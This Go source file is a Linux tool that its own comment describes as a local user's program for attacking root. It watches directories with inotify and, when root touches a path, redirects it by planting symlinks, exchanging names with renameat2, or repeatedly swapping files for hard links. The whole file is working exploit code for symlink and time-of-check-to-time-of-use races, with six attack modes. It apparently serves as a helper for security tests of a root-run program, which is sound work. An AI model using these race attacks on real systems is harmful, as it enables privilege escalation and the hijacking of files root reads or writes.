//go:build linux

// Attacker is a program of a local user who attacks root. It waits until root touches something, and then redirects a
// path.
//
//	attacker open DIR LINK TARGET      when somebody opens DIR, LINK becomes a link to TARGET
//	attacker folder DIR PART TARGET    each new folder in DIR with PART in its name becomes a link to TARGET
//	attacker after FILE GLOB TARGET    when somebody opens FILE, the first folder that matches GLOB becomes a link to
//	                                   TARGET
//	attacker whole DIR PART TARGET     when DIR has a new file with PART in its name, DIR becomes a link to TARGET
//	attacker exchange A B              A and B exchange their names, again and again
//	attacker links DIR FILE            each file below DIR becomes a hard link to FILE, then itself again, and so on
//
// It prints a line when it is ready, and one line each time that it redirects something.
package main

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	switch os.Args[1] {
	case "exchange":
		fmt.Println("ready")
		for {
			if swap(os.Args[2], os.Args[3]) {
				fmt.Println("done")
			}
		}
	case "links":
		fmt.Println("ready")
		for {
			links(os.Args[2], os.Args[3])
		}
	}
	verb, dir, name, target := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
	mask := map[string]uint32{
		"open": unix.IN_OPEN, "after": unix.IN_OPEN, "folder": unix.IN_CREATE, "whole": unix.IN_CREATE,
	}[verb]
	fd, err := unix.InotifyInit1(0)
	check(err)
	_, err = unix.InotifyAddWatch(fd, dir, mask)
	check(err)
	spare := filepath.Join(dir, ".spare")
	switch verb {
	case "open":
		spare = name + ".spare"
	case "whole":
		spare = filepath.Join(filepath.Dir(dir), "spare") // a name cannot be exchanged with one below it
	case "after":
		spare = filepath.Join(filepath.Dir(name), "spare") // root's directory cannot be moved to another parent
	}
	os.Remove(spare)
	check(os.Symlink(target, spare))
	fmt.Println("ready")
	buf := make([]byte, 64<<10)
	for {
		n, err := unix.Read(fd, buf)
		check(err)
		for b := buf[:n]; len(b) > 0; {
			e := (*unix.InotifyEvent)(unsafe.Pointer(&b[0]))
			made := strings.TrimRight(string(b[unix.SizeofInotifyEvent:unix.SizeofInotifyEvent+e.Len]), "\x00")
			b = b[unix.SizeofInotifyEvent+e.Len:]
			switch {
			case verb == "open":
				if os.Rename(spare, name) == nil {
					fmt.Println("done")
				}
				return
			case verb == "after":
				folders, _ := filepath.Glob(name)
				if len(folders) > 0 && swap(folders[0], spare) {
					fmt.Println("done")
					return
				}
			case verb == "whole" && strings.Contains(made, name):
				if swap(dir, spare) {
					fmt.Println("done")
				}
				return
			case strings.Contains(made, name):
				if swap(filepath.Join(dir, made), spare) {
					fmt.Println("done")
				}
			}
		}
	}
}

// links exchanges each file below dir for a hard link to file; the next time it exchanges them back.
func links(dir, file string) {
	const mark = ".attacker"
	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		switch {
		case err != nil:
		case d.IsDir():
			os.Chmod(path, 0o755) // an extracted module is closed to its owner
		case d.Type().IsRegular() && !strings.HasSuffix(path, mark):
			if err := os.Link(file, path+mark); (err == nil || errors.Is(err, fs.ErrExist)) && swap(path+mark, path) {
				fmt.Println("done")
			}
		}
		return nil
	})
}

// swap exchanges two names in our directories, such as that of a folder of root's and of a link.
func swap(folder, link string) bool {
	return unix.Renameat2(unix.AT_FDCWD, link, unix.AT_FDCWD, folder, unix.RENAME_EXCHANGE) == nil
}

func check(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}
